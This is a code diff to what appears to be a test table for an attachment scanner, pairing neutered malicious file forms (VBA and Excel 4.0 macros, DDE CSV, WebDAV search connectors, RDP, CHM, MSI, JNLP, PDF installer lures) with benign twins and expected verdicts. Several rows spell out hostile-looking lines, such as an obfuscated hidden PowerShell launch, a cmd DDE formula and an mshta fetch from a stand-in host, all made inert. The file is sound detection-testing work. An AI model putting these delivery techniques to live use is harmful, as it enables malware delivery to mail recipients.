@@ -9,6 +9,8 @@ import functools
 
 import forms
 import forms_more as more
+import forms_office as office
+import forms_windows as windows
 
 
 @dataclasses.dataclass
@@ -26,9 +28,65 @@ class Row:
     mutated: bool = True       # in evasion_test.py; False where it is another row in a wrapper that mutations have as well
 
 
-ALONE = "a program alone is quarantined as suspicious; in an archive whose password stands in the mail, or saved by a page of itself, it is malicious"
-SAVED = "by itself it is quarantined; what a page saves without being asked is malicious with it"
-ALONE_OTHER = {"password ZIP": ("malicious", ALONE), "HTML": ("malicious", ALONE)}
+XAR = "bsdtar --format xar -cf ../out.xar {name}"
+
+# Sections 3.1 to 3.19 again: what else travels, less often.
+MORE_ROWS = [
+    Row("Publisher, VBA", "invoice.pub", lambda: office.publisher(office.GUARDED), "flyer.pub", lambda: office.publisher(office.HONEST)),
+    Row("PowerPoint 97-2003, VBA", "invoice.ppt", lambda: office.presentation_97(office.GUARDED),
+        "slides.ppt", lambda: office.presentation_97(office.HONEST)),
+    Row("Add-in of PowerPoint (PPAM)", "invoice.ppam", lambda: office.add_in_of_powerpoint(office.GUARDED),
+        "tools.ppam", lambda: office.add_in_of_powerpoint(office.HONEST)),
+    Row("Access, VBA", "invoice.mdb", lambda: office.access_database(office.GUARDED), "orders.mdb", office.access_database,
+        twin_verdict="unscannable", why="of a database only the sources of modules are read, and that is said of each"),
+    Row("Excel 4.0 macros in a workbook in XML", "invoice.xlsm",
+        lambda: office.macro_book(["HALT()", 'EXEC("rem inert "&"power"&"shell -w hidden")']), "figures.xlsx", office.macro_book),
+    Row("Excel 4.0 macros in a binary workbook", "invoice.xlsb", lambda: office.binary_book("rem inert powershell -w hidden"),
+        "figures.xlsb", office.binary_book),
+    Row("CSV with a DDE formula", "list.csv", lambda: forms.csv("=cmd|'/c rem INERT SEKISHO TEST'!A1"), "rates.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
+    # 3.8
+    Row("Search connector of a WebDAV folder", "documents.searchConnector-ms", lambda: windows.search_connector("\\\\192.0.2.7@80\\share"),
+        "team.searchConnector-ms", lambda: windows.search_connector("\\\\srv\\team")),
+    Row("Saved search of a WebDAV folder", "documents.search-ms", lambda: windows.saved_search("\\\\192.0.2.7@80\\share"),
+        "team.search-ms", lambda: windows.saved_search("\\\\srv\\team")),
+    Row("Remote desktop at an address, with drives and a program", "invoice.rdp", lambda: windows.remote_desktop("192.0.2.7", *windows.REMOTE_LINES),
+        "terminal.rdp", lambda: windows.remote_desktop("ts01.example.com")),
+    Row("Remote desktop at a name, with drives and a program", "invoice.rdp", lambda: windows.remote_desktop("zone.example.invalid", *windows.REMOTE_LINES),
+        "terminal.rdp", lambda: windows.remote_desktop("ts01.example.com"), "suspicious",
+        why="offices reach their own servers so: it is quarantined, not called malicious"),
+    Row("Theme with a file elsewhere", "autumn.theme", lambda: windows.theme("\\\\192.0.2.7\\share\\a.msstyles"),
+        "autumn.theme", lambda: windows.theme("%ResourceDir%\\Themes\\Aero\\Aero.msstyles")),
+    # 3.12
+    *(Row(f"Image of a disk: {kind}", f"documents.{kind.lower()}", functools.partial(windows.image, kind, "invoice.lnk", "emotet.lnk"),
+          f"documents.{kind.lower()}", functools.partial(windows.image, kind, "notes.txt"),
+          twin_other={} if kind == "IMG" else BUILT) for kind in windows.IMAGES),
+    # 3.15
+    Row("Console of Windows (MSC) whose page runs a script", "invoice.msc", windows.console_page, "admin.msc", windows.console_plain),
+    Row("Style sheet with a script (XSL)", "invoice.xsl", lambda: windows.style_sheet(windows.RUN), "report.xsl", windows.style_sheet),
+    Row("Scriptlet (SCT)", "invoice.sct", windows.scriptlet, "readme.txt", forms.notes),
+    Row("Settings of a script elsewhere (WSH)", "invoice.wsh", lambda: windows.settings_of_a_script("\\\\192.0.2.7@80\\share\\a.vbs"),
+        "readme.txt", forms.notes),
+    Row("Encoded JScript (JSE)", "invoice.jse", forms.ours("encoded.jse"), "readme.txt", forms.notes),
+    Row("Keys of the registry (REG)", "settings.reg", lambda: windows.registry('"u"="mshta http://example.invalid/inert"'), "readme.txt", forms.notes),
+    Row("Compiled help (CHM)", "invoice.chm", lambda: windows.help_file(windows.HELP_COMMAND), "readme.txt", forms.notes),
+    Row("Installer (MSI) with a program", "invoice.msi", lambda: windows.installer("a.exe", forms.ours("program.exe")()), "readme.txt", forms.notes),
+    Row("Java archive (JAR)", "invoice.jar", windows.jar, "readme.txt", forms.notes),
+    Row("Java from an address (JNLP)", "invoice.jnlp", lambda: windows.java_start("http://192.0.2.7/", True),
+        "bidding.jnlp", lambda: windows.java_start("https://bid.example.com/", True)),
+    # 3.16
+    Row("PDF that is a picture with a link to an installer", "invoice.pdf", lambda: windows.pdf_lure("ms-appinstaller:?source=http://example.invalid/a.msix"),
+        "flyer.pdf", lambda: windows.pdf_lure("https://www.example.com/")),
+    Row("PDF that is a picture with a link to a stolen site", "invoice.pdf", lambda: windows.pdf_lure("http://example.invalid/wp-content/Ab3dEf/"),
+        "terms.pdf", lambda: windows.pdf_terms("https://www.example.com/terms.zip"), "suspicious",
+        why="what lies behind a link is not fetched: it is quarantined, not called malicious"),
+    # 3.19
+    Row("Program in an archive: XAR", "invoice.xar", lambda: more.packed("invoice.exe", forms.ours("program.exe")(), XAR),
+        "notes.xar", lambda: more.packed("notes.txt", forms.notes(), XAR)),
+    Row("Program in an archive: ACE", "invoice.ace", lambda: windows.ace("invoice.exe", forms.ours("program.exe")()), "readme.txt", forms.notes,
+        "suspicious", why="no free program unpacks ACE: each is quarantined, whatever is in it", other={"HTML": ("malicious", "a page that builds an archive, too")}),
+]
+for row in MORE_ROWS:
+    row.mutated = not row.form.startswith(("Image of a disk", "Program in an archive"))
 
 ROWS = [
     Row("Word 97-2003, VBA (2019-09)", "Mes_G697449.doc", forms.ours("dropper.doc"), "figures.xls", forms.ours("benign-macro.xls")),
@@ -57,9 +115,11 @@ ROWS = [
     Row("Shortcut that looks for a script in itself (2022-04)", "Form 04.25.2022, US.doc.lnk", forms.ours("emotet.lnk"),
         "sales.lnk", forms.ours("folder.lnk")),
     Row("Internet shortcut to a server's program", "invoice.url", lambda: forms.url_file("file://192.0.2.7/share/invoice.exe"),
-        "portal.url", lambda: forms.url_file("https://www.example.com/")),
-    Row("SVG with a script", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "logo.svg", lambda: forms.svg(""),
-        verdict="suspicious", why="drawings that move by a script are sent honestly now and then: it is quarantined, not called malicious", other={"HTML": ("malicious", SAVED)}),
+        "portal.url", lambda: forms.url_file("https://www.example.com/"),
+        other={"HTML": ("clean", "sixty bytes: shorter than what is looked for in the scripts of a page")}),
+    Row("SVG whose script leads away", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "chart.svg",
+        lambda: forms.svg("document.getElementById('bar').setAttribute('width', '42');"),
+        twin_other={"HTML": ("suspicious", "a page that carries a picture with a script, encoded, is quarantined")}),
     Row("VBScript that starts PowerShell", "invoice.vbs", forms.script(
         'Rem {comment}\nSet s = CreateObject("WScr" & "ipt.Shell")\nIf False Then s.Run "power" & "shell -w hidden -e SQBFAFgA", 0\n'),
         "list.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
@@ -71,13 +131,11 @@ ROWS = [
     # 3.3
     Row("MHTML with ActiveMime", "invoice.doc", lambda: more.mhtml(forms.ours("vbaProject.bin")()), "report.mht", more.mhtml),
     # 3.8
-    Row("Add-in of Excel, a library (XLL)", "addin.xll", forms.ours("addin.xll"), "figures.xls", forms.ours("benign-macro.xls"), "suspicious",
-        why=ALONE, other=ALONE_OTHER),
+    Row("Add-in of Excel, a library (XLL)", "addin.xll", forms.ours("addin.xll"), "figures.xls", forms.ours("benign-macro.xls")),
     Row("SYLK with macros of Excel 4.0", "invoice.slk", lambda: more.sylk('EXEC("cmd /c rem INERT SEKISHO TEST http://example.invalid/")'),
         "figures.slk", more.sylk),
     Row("Web query (IQY)", "invoice.iqy", lambda: more.web_query("http://example.invalid/a.dat"), "rates.iqy",
-        lambda: more.web_query("https://intranet/rates.htm"), "suspicious",
-        why="fetches cells, which do nothing until Excel has asked twice: it is quarantined, not called malicious", other={"HTML": ("malicious", SAVED)}),
+        lambda: more.web_query("https://rates.example.com/today.htm")),
     Row("Settings shortcut", "invoice.settingcontent-ms", lambda: more.settings_link("%windir%\\system32\\cmd.exe /c rem INERT SEKISHO TEST"),
         "readme.txt", forms.notes),
     Row("Library of a WebDAV folder", "documents.library-ms", lambda: more.library("\\\\192.0.2.7@80\\share"),
@@ -113,7 +171,17 @@ ROWS = [
         "letter.eml", lambda: more.mail_file("letter.doc", forms.ours("clean.doc")())),
     # 3.19
     *(Row(f"Program in an archive: {kind}", f"invoice.{suffix}", functools.partial(more.packed_program, kind),
-          f"notes.{suffix}", functools.partial(more.packed_notes, kind), "suspicious", why=ALONE,
-          other=ALONE_OTHER,
+          f"notes.{suffix}", functools.partial(more.packed_notes, kind),
           mutated=kind in ("CAB", "LZH")) for kind, (suffix, _) in more.ARCHIVES.items()),
+    *MORE_ROWS,
 ]
+
+# What stands in the reference and cannot be a row, and why. The page says it, too.
+NOT_MADE = {
+    "Pictures that ask for content to be enabled (3.20)": "the words stand in a picture, and pictures are not read; the macros beside them are",
+    "RAR as a carrier (3.9)": "Debian has no free program that writes it; containers/rar_test.cpp reads archives of our own writer and of the corpus",
+    "ACE with a member that is compressed (3.19)": "no free program writes or reads it; the row above holds one that is stored",
+    "Notebooks as OneNote writes them (3.13)": "the rows hold the objects of [MS-ONESTORE] without its lists of properties; "
+                                               "office/onenote_test.cpp writes those",
+    "DMG (3.12)": "an image of macOS, which Windows does not open; it is told, and not read",
+}
